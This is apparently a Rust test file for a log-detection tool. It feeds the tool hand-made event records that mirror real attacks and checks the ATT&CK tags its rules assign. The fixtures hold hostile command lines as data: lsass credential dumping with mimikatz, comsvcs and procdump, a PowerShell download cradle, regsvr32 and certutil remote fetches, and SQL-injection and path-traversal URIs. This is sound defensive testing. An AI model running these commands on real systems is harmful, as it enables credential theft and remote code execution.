//! Detect stage: the default rules fire on hand-made records mirroring real attacks (and stay
//! quiet on ordinary ones), SigmaHQ rules load, the loader survives garbage, and a benchmark.

mod common;

use lookout::bench::detect::bench_detail;
use lookout::detect::{DetectSummary, RuleSet};
use lookout::event::{Event, Format, Risk};
use proptest::prelude::*;

fn win(channel: &str, eid: u32, fields: &[(&str, &str)]) -> Event {
    let mut ev = Event::new(Format::Evtx, "handmade.evtx", 1, "");
    ev.channel = Some(channel.into());
    ev.event_id = Some(eid.to_string());
    ev.host = Some("PC04.example.corp".into());
    for (k, v) in fields {
        ev.fields.insert((*k).into(), (*v).into());
    }
    ev.fields.insert("EventID".into(), eid.to_string());
    ev.fields.insert("Channel".into(), channel.into());
    ev.process = ev.fields.get("Image").cloned();
    ev.command_line = ev.fields.get("CommandLine").cloned();
    ev.finish()
}

fn sysmon(eid: u32, fields: &[(&str, &str)]) -> Event {
    win("Microsoft-Windows-Sysmon/Operational", eid, fields)
}

fn security(eid: u32, fields: &[(&str, &str)]) -> Event {
    win("Security", eid, fields)
}

fn proc(image: &str, cmd: &str) -> Event {
    sysmon(
        1,
        &[
            ("Image", image),
            ("CommandLine", cmd),
            ("ParentImage", "C:\\Windows\\explorer.exe"),
            ("User", "PC04\\IEUser"),
        ],
    )
}

fn auth(program: &str, text: &str, src_ip: Option<&str>) -> Event {
    let raw = format!("Mar 17 19:37:11 web01 {program}[4242]: {text}");
    let mut ev = Event::new(Format::AuthLog, "auth.log", 1, raw.clone());
    ev.event_id = Some(program.into());
    ev.host = Some("web01".into());
    ev.message = text.into();
    ev.src_ip = src_ip.map(String::from);
    ev.finish()
}

fn web(uri: &str, ua: &str) -> Event {
    let raw = format!(
        "203.0.113.7 - - [17/Mar/2024:19:37:11 +0000] \"GET {uri} HTTP/1.1\" 200 512 \"-\" \"{ua}\""
    );
    let mut ev = Event::new(Format::WebAccess, "access.log", 1, raw.clone());
    ev.src_ip = Some("203.0.113.7".into());
    ev.message = raw;
    for (k, v) in [
        ("method", "GET"),
        ("uri", uri),
        ("status", "200"),
        ("user_agent", ua),
    ] {
        ev.fields.insert(k.into(), v.into());
    }
    ev.finish()
}

fn eve_alert(severity: &str, signature: &str) -> Event {
    let mut ev = Event::new(Format::SuricataEve, "eve.json", 1, "{}");
    ev.event_id = Some("alert".into());
    ev.fields.insert("event_type".into(), "alert".into());
    ev.fields.insert("alert.severity".into(), severity.into());
    ev.fields.insert("alert.signature".into(), signature.into());
    ev.finish()
}

fn zeek_conn(port: u16) -> Event {
    let mut ev = Event::new(Format::ZeekJson, "conn.log", 1, "{}");
    ev.event_id = Some("conn".into());
    ev.dst_port = Some(port);
    ev.fields.insert("id.resp_p".into(), port.to_string());
    ev.finish()
}

/// The attack records, each with a technique the default rules must tag it with.
fn attacks() -> Vec<(&'static str, Event, &'static str)> {
    let enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    vec![
        (
            "lsass access by mimikatz (Sysmon 10)",
            sysmon(
                10,
                &[
                    (
                        "SourceImage",
                        "C:\\Users\\IEUser\\Desktop\\mimikatz_trunk\\Win32\\mimikatz.exe",
                    ),
                    ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                    ("GrantedAccess", "0x1010"),
                ],
            ),
            "T1003.001",
        ),
        (
            "comsvcs MiniDump",
            proc(
                "C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
            ),
            "T1003.001",
        ),
        (
            "procdump of lsass",
            proc(
                "C:\\tools\\procdump64.exe",
                "procdump64.exe -accepteula -ma lsass.exe out.dmp",
            ),
            "T1003.001",
        ),
        (
            "mimikatz command line",
            proc(
                "C:\\x\\m.exe",
                "m.exe privilege::debug sekurlsa::logonpasswords exit",
            ),
            "T1003.001",
        ),
        (
            "encoded PowerShell",
            proc(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                &format!("powershell.exe -NoP -W Hidden -enc {enc}"),
            ),
            "T1059.001",
        ),
        (
            "PowerShell hidden inline base64 (susp_explorer_exec)",
            proc(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell -exec bypass -c \"IEX ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('JFhYPUlFWCgoJ1snICsgW2NoYXJdMHg1')))\"",
            ),
            "T1059.001",
        ),
        (
            "download cradle",
            proc(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')\"",
            ),
            "T1105",
        ),
        (
            "4104 MiniDumpWriteDump",
            win(
                "Microsoft-Windows-PowerShell/Operational",
                4104,
                &[(
                    "ScriptBlockText",
                    "$WER.GetMethod('MiniDumpWriteDump', 'NonPublic, Static'); $proc = Get-Process lsass",
                )],
            ),
            "T1003.001",
        ),
        (
            "schtasks /create",
            proc(
                "C:\\Windows\\System32\\schtasks.exe",
                "schtasks /Create /SC ONLOGON /TN Updater /TR C:\\Users\\Public\\u.exe",
            ),
            "T1053.005",
        ),
        (
            "Run key (Sysmon 13)",
            sysmon(
                13,
                &[
                    ("Image", "C:\\Users\\Public\\evil.exe"),
                    (
                        "TargetObject",
                        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                    ),
                    ("Details", "C:\\Users\\Public\\evil.exe"),
                ],
            ),
            "T1547.001",
        ),
        (
            "service install 7045",
            win(
                "System",
                7045,
                &[
                    ("Provider_Name", "Service Control Manager"),
                    ("ServiceName", "hello"),
                    (
                        "ImagePath",
                        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden",
                    ),
                ],
            ),
            "T1543.003",
        ),
        ("security log cleared", security(1102, &[]), "T1070.001"),
        (
            "system log cleared",
            win(
                "System",
                104,
                &[("Provider_Name", "Microsoft-Windows-Eventlog")],
            ),
            "T1070.001",
        ),
        (
            "user created",
            security(4720, &[("TargetUserName", "backdoor")]),
            "T1136.001",
        ),
        (
            "added to Administrators",
            security(
                4732,
                &[("TargetSid", "S-1-5-32-544"), ("MemberSid", "S-1-5-20")],
            ),
            "T1098",
        ),
        (
            "logon failure",
            security(4625, &[("LogonType", "3")]),
            "T1110",
        ),
        (
            "kerberos pre-auth failure",
            security(4771, &[("Status", "0x18")]),
            "T1110.003",
        ),
        (
            "pass-the-hash logon type 9",
            security(
                4624,
                &[
                    ("LogonType", "9"),
                    ("LogonProcessName", "seclogo"),
                    ("AuthenticationPackageName", "Negotiate"),
                ],
            ),
            "T1550.002",
        ),
        (
            "DCSync 4662",
            security(
                4662,
                &[
                    ("SubjectUserName", "admin"),
                    ("AccessMask", "0x100"),
                    (
                        "Properties",
                        "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                    ),
                ],
            ),
            "T1003.006",
        ),
        ("zerologon 5805", win("System", 5805, &[]), "T1210"),
        (
            "RDP via loopback tunnel",
            security(4624, &[("LogonType", "10"), ("IpAddress", "::1")]),
            "T1572",
        ),
        (
            "certutil download",
            proc(
                "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://7-zip.org/a/7z1604-x64.exe 7zip.exe",
            ),
            "T1105",
        ),
        (
            "rundll32 zipfldr RouteTheCall",
            proc(
                "C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe zipfldr.dll,RouteTheCall calc.exe",
            ),
            "T1218.011",
        ),
        (
            "regsvr32 squiblydoo",
            proc(
                "C:\\Windows\\System32\\regsvr32.exe",
                "regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll",
            ),
            "T1218.010",
        ),
        (
            "wmic remote process",
            proc(
                "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"",
            ),
            "T1047",
        ),
        (
            "ssh failed password",
            auth(
                "sshd",
                "Failed password for root from 173.234.31.186 port 38926 ssh2",
                Some("173.234.31.186"),
            ),
            "T1110.001",
        ),
        (
            "ssh invalid user",
            auth(
                "sshd",
                "Invalid user webmaster from 173.234.31.186",
                Some("173.234.31.186"),
            ),
            "T1110.001",
        ),
        (
            "ssh accepted from internet",
            auth(
                "sshd",
                "Accepted password for bob from 198.51.100.23 port 51000 ssh2",
                Some("198.51.100.23"),
            ),
            "T1078",
        ),
        (
            "sudo root shell",
            auth(
                "sudo",
                "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
                None,
            ),
            "T1548.003",
        ),
        (
            "useradd",
            auth(
                "useradd",
                "new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor",
                None,
            ),
            "T1136.001",
        ),
        (
            "crontab replaced",
            auth("crontab", "(root) REPLACE (root)", None),
            "T1053.003",
        ),
        (
            "sql injection",
            web(
                "/items.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
                "Mozilla/5.0",
            ),
            "T1190",
        ),
        (
            "path traversal",
            web("/download?file=../../../../etc/passwd", "curl/8.0"),
            "T1083",
        ),
        (
            "scanner UA",
            web("/", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            "T1595.002",
        ),
        (
            "suricata scan alert",
            eve_alert("2", "ET SCAN Suspicious inbound to MSSQL port 1433"),
            "T1046",
        ),
        ("zeek conn to 4444", zeek_conn(4444), "T1571"),
    ]
}

fn benign() -> Vec<(&'static str, Event)> {
    vec![
        (
            "notepad from explorer",
            proc(
                "C:\\Windows\\System32\\notepad.exe",
                "notepad.exe C:\\notes.txt",
            ),
        ),
        (
            "powershell Get-Date",
            proc(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -Command Get-Date",
            ),
        ),
        (
            "svchost query access to lsass",
            sysmon(
                10,
                &[
                    ("SourceImage", "C:\\Windows\\System32\\svchost.exe"),
                    ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                    ("GrantedAccess", "0x1000"),
                ],
            ),
        ),
        (
            "interactive logon",
            security(
                4624,
                &[
                    ("LogonType", "2"),
                    ("AuthenticationPackageName", "Negotiate"),
                ],
            ),
        ),
        (
            "ssh accepted from LAN",
            auth(
                "sshd",
                "Accepted publickey for bob from 10.0.0.5 port 51000 ssh2",
                Some("10.0.0.5"),
            ),
        ),
        (
            "plain web page",
            web("/index.html?lang=en", "Mozilla/5.0 (X11; Linux x86_64)"),
        ),
        ("https connection", zeek_conn(443)),
    ]
}

#[test]
fn builtin_rules_all_load() {
    let (rs, report) = RuleSet::builtin();
    assert_eq!(report.unsupported, vec![], "every default rule must load");
    assert_eq!(report.loaded, rs.len());
    assert!(rs.len() >= 30, "{} rules", rs.len());
    for r in rs.rules() {
        assert!(r.id.len() == 36, "{}: id should be a UUID", r.file);
        if !r.file.contains("suricata_alert_severity") {
            assert!(
                !r.techniques.is_empty(),
                "{}: no ATT&CK technique tag",
                r.file
            );
        }
    }
    println!("builtin rules: {}", rs.len());
}

#[test]
fn builtin_rules_fire_on_attacks_with_techniques() {
    let (rs, _) = RuleSet::builtin();
    let mut failures = Vec::new();
    for (name, ev, technique) in attacks() {
        let hits = rs.matches(&ev);
        if !hits
            .iter()
            .any(|h| h.techniques.iter().any(|t| t == technique))
        {
            let got: Vec<_> = hits.iter().map(|h| (&h.title, &h.techniques)).collect();
            failures.push(format!("{name}: wanted {technique}, got {got:?}"));
        }
        assert!(hits.iter().all(|h| h.event_id == ev.id));
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn builtin_rules_stay_quiet_on_ordinary_records() {
    let (rs, _) = RuleSet::builtin();
    for (name, ev) in benign() {
        let hits = rs.matches(&ev);
        let titles: Vec<_> = hits.iter().map(|h| &h.title).collect();
        assert!(hits.is_empty(), "{name} fired {titles:?}");
    }
}

#[test]
fn credential_dumping_is_critical_and_summary_counts() {
    let (rs, _) = RuleSet::builtin();
    let ev = proc(
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    );
    let hits = rs.matches(&ev);
    assert!(hits.iter().any(|h| h.level == Risk::Critical));
    let mut summary = DetectSummary::default();
    for (_, ev, _) in attacks() {
        for h in rs.matches(&ev) {
            summary.add(&h);
        }
    }
    assert!(summary.by_technique["T1003.001"] >= 5);
    assert!(summary.by_level.contains_key(&Risk::Critical));
    println!(
        "{}",
        serde_json::to_string_pretty(&summary.by_technique).unwrap_or_default()
    );
}

#[test]
fn sigmahq_rules_load_and_compile() {
    let (Some(dir), Some(index)) = (
        common::dataset("sigma/rules"),
        common::dataset("sigma/rules_index.tsv"),
    ) else {
        return;
    };
    let (rs, report) = RuleSet::load(&[dir], false);
    println!(
        "SigmaHQ: {} loaded, {} not:",
        report.loaded,
        report.unsupported.len()
    );
    for r in &report.unsupported {
        println!("  {}: {r}", r.file);
    }
    assert!(
        report.loaded >= 95,
        "only {} of 100 SigmaHQ rules loaded",
        report.loaded
    );
    // Tags parse to the techniques the index lists for each rule.
    let index = std::fs::read_to_string(index).unwrap();
    let mut checked = 0;
    for line in index.lines().skip(1) {
        let cols: Vec<&str> = line.split('\t').collect();
        let (id, techniques) = (cols[1], cols[5]);
        if let Some(rule) = rs.rule(id) {
            let want: Vec<&str> = techniques.split(',').filter(|t| !t.is_empty()).collect();
            assert_eq!(rule.techniques, want, "{id}");
            checked += 1;
        }
    }
    assert_eq!(checked, rs.len());
}

#[test]
fn sigmahq_rules_fire_on_matching_process_creation() {
    let Some(rules) = common::dataset("sigma/rules") else {
        return;
    };
    let (rs, _) = RuleSet::load(&[rules], false);
    // proc_creation_win_esentutl_params: a command line holding both `esentutl` and ` /p`
    // (T1003.003), as when a dumped ntds.dit is repaired before offline cracking.
    let ev = proc(
        "C:\\Windows\\System32\\esentutl.exe",
        "esentutl.exe /p c:\\temp\\ntds.dit /o",
    );
    let hits = rs.matches(&ev);
    assert!(
        hits.iter()
            .any(|h| h.techniques.iter().any(|t| t.starts_with("T1003"))),
        "{hits:?}"
    );
}

/// Events of many kinds, most of them ordinary, as a triage corpus would hold.
fn corpus(n: usize) -> Vec<Event> {
    let mut base: Vec<Event> = benign().into_iter().map(|(_, e)| e).collect();
    base.extend(attacks().into_iter().map(|(_, e, _)| e));
    for i in 0..20 {
        base.push(proc(
            "C:\\Program Files\\App\\app.exe",
            &format!("app.exe --worker {i} --config C:\\ProgramData\\App\\app.json"),
        ));
        base.push(sysmon(
            3,
            &[
                ("Image", "C:\\Windows\\System32\\svchost.exe"),
                ("DestinationIp", "10.0.0.1"),
                ("DestinationPort", "443"),
            ],
        ));
        base.push(security(
            4624,
            &[
                ("LogonType", "3"),
                ("AuthenticationPackageName", "Kerberos"),
            ],
        ));
        base.push(auth(
            "CRON",
            "pam_unix(cron:session): session opened for user root by (uid=0)",
            None,
        ));
    }
    (0..n).map(|i| base[i % base.len()].clone()).collect()
}

#[test]
fn benchmark_matching_throughput() {
    let (builtin, _) = RuleSet::builtin();
    let events = corpus(20_000);
    let r = bench_detail(&builtin, &events, false);
    println!(
        "builtin ({} rules): {:.0} events/s on one thread, {} hits",
        r.rules, r.events_per_s, r.hits
    );
    if let Some(rules) = common::dataset("sigma/rules") {
        let (both, _) = RuleSet::load(&[rules], true);
        let r = bench_detail(&both, &events, false);
        println!(
            "builtin + SigmaHQ ({} rules): {:.0} events/s on one thread",
            r.rules, r.events_per_s
        );
        let r = bench_detail(&both, &events, true);
        println!(
            "builtin + SigmaHQ ({} rules): {:.0} events/s on rayon's pool",
            r.rules, r.events_per_s
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn loader_never_panics_on_garbage(text in ".{0,400}") {
        let (rs, report) = RuleSet::from_sources([("garbage.yml", text.as_str())]);
        prop_assert_eq!(rs.len(), report.loaded);
    }

    #[test]
    fn loader_and_matcher_never_panic_on_rule_like_yaml(
        product in prop::sample::select(vec!["windows", "linux", "zeek", "bogus", ""]),
        category in prop::sample::select(vec!["process_creation", "ps_script", "webserver", "nope", ""]),
        field in prop::sample::select(vec!["CommandLine", "Image", "c-uri", "", "x|y", "a.b"]),
        modifiers in prop::collection::vec(
            prop::sample::select(vec!["contains", "all", "re", "cidr", "base64offset", "windash",
                                      "startswith", "endswith", "gt", "exists", "bogus", "cased"]),
            0..4),
        values in prop::collection::vec("[ -~]{0,12}", 0..4),
        condition in prop::sample::select(vec!["sel", "1 of sel*", "all of them", "not sel",
                                               "sel and (", "sel | count() > 5", "other", ""]),
    ) {
        let key = std::iter::once(field.to_string()).chain(modifiers.iter().map(|m| m.to_string()))
            .collect::<Vec<_>>().join("|");
        let vals: Vec<String> = values.iter().map(|v| format!("'{}'", v.replace('\'', "''"))).collect();
        let yaml = format!(
            "title: fuzz\nlogsource:\n    product: {product}\n    category: {category}\n\
             detection:\n    sel:\n        '{key}': [{}]\n    condition: {condition}\n",
            vals.join(", ")
        );
        let (rs, report) = RuleSet::from_sources([("fuzz.yml", yaml.as_str())]);
        prop_assert_eq!(rs.len() + report.unsupported.len() >= 1, true);
        for (_, ev, _) in attacks().into_iter().take(6) {
            let _ = rs.matches(&ev);
        }
    }
}

/// The loghub samples (Apache error log, Linux syslog, an OpenSSH server under brute force):
/// the default rules' hits per sample, compared with independent line counts of what each
/// rule looks for.
#[test]
fn builtin_rules_on_loghub_samples() {
    let Some(loghub) = common::dataset("loghub") else {
        return;
    };
    let (rs, _) = RuleSet::builtin();
    let mut report = Vec::new();
    for name in ["Apache", "Linux", "OpenSSH"] {
        let path = loghub.join(format!("{name}/{name}_2k.log"));
        let text = std::fs::read_to_string(&path).unwrap();
        let (events, _) = lookout::ingest::read_file_to_vec(&path, &Default::default());
        assert_eq!(events.len(), 2000, "{name}");
        let mut by_rule = std::collections::BTreeMap::<String, usize>::new();
        for ev in &events {
            for h in rs.matches(ev) {
                *by_rule.entry(h.title.to_string()).or_default() += 1;
            }
        }
        report.push(format!("{name}: {by_rule:?}"));
        let lines_with = |needles: &[&str]| {
            text.lines()
                .filter(|l| needles.iter().any(|n| l.contains(n)))
                .count()
        };
        match name {
            // sshd(pam_unix) `authentication failure` lines, and `Failed password` from sshd.
            "Linux" | "OpenSSH" => {
                let failures = lines_with(&[
                    "Failed password for",
                    "authentication failure",
                    "Failed publickey for",
                    "maximum authentication attempts exceeded",
                ]);
                let sshd_failures = text
                    .lines()
                    .filter(|l| l.contains(" sshd"))
                    .filter(|l| {
                        ["Failed password for", "authentication failure"]
                            .iter()
                            .any(|n| l.contains(n))
                    })
                    .count();
                assert!(sshd_failures > 300, "{name}: {sshd_failures}");
                let hits = by_rule.get("SSH Failed Password").copied().unwrap_or(0);
                assert!(
                    hits >= sshd_failures && hits <= failures,
                    "{name}: {hits} hits, {sshd_failures} sshd failure lines"
                );
            }
            // An Apache error log of a healthy server: nothing for the default rules.
            _ => assert!(by_rule.is_empty(), "{name}: {by_rule:?}"),
        }
    }
    println!("{}", report.join("\n"));
}
